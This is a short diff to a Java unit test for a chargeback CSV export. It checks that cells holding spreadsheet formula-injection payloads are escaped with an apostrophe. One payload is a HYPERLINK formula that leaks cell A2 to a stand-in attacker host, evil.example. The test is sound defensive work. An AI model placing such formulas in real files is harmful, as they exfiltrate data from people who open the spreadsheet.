@@ -68,7 +68,7 @@ class ChargebackCsvTest {
         assertThat(csv).startsWith("\"app\",\"appName\",\"businessUnit\",\"costCenter\",\"requests\",");
 
         String number = "\\d+\\.\\d+";
-        String figures = ",1,1200,256,300,0,1500," + number + ",\"USD\",0,0\\.0000,0,0,0";
+        String figures = ",1,1200,256,300,0,1500," + number + "," + number + ",0,\"USD\",0,0\\.0000,0,0,0,,";
         assertThat(line(csv, formula)).matches("\"" + formula
                 + "\",\"'=HYPERLINK\\(\"\"https://evil\\.example/\\?leak=\"\"&A2,\"\"Open\"\"\\)\",\"'\\+SUM\\(1,2\\)\",\"'-1\\+2\""
                 + figures);
